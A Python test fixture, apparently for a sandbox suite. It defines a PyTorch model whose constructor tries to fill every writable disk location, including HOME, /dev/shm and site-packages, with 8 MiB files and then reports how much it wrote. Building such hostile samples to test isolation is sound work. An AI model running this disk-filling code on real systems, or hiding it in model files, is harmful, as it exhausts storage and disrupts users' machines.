"""Hostile: tries to fill every disk it can write to when Net() is built.

It writes 8 MiB chunks into files in its working directory, HOME, the temp directory, /dev/shm,
next to its own source and in site-packages, until every write fails, then reports how much it
wrote and why it stopped (between DISK<< and >>DISK) by raising. Isolated: only the sandbox's
private, size-capped tmpfs mounts take any data (RLIMIT_FSIZE caps each file); everything else is
read-only. tests/test_hostile.py checks the report.
"""

import errno
import json
import os
import sysconfig
import tempfile

import torch.nn as nn

CHUNK = b"\0" * (8 << 20)


def _fill(directory, limit=2 << 30):
    written, reason, index = 0, "", 0
    while written < limit:
        path = os.path.join(directory, f"filler-{os.getpid()}-{index}.bin")
        index += 1
        try:
            with open(path, "wb") as f:
                while written < limit:
                    f.write(CHUNK)
                    f.flush()
                    written += len(CHUNK)
        except OSError as exc:
            reason = errno.errorcode.get(exc.errno, str(exc.errno))
            if exc.errno != errno.EFBIG:
                break
    return {"mib": written >> 20, "stopped": reason or "limit"}


def _fill_everything():
    places = sorted({os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/dev/shm",
                     os.path.dirname(os.path.abspath(__file__)), sysconfig.get_paths()["purelib"]})
    return {place: _fill(place) for place in places}


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        raise RuntimeError("DISK<<" + json.dumps(_fill_everything()) + ">>DISK")

    def forward(self, x):
        return x
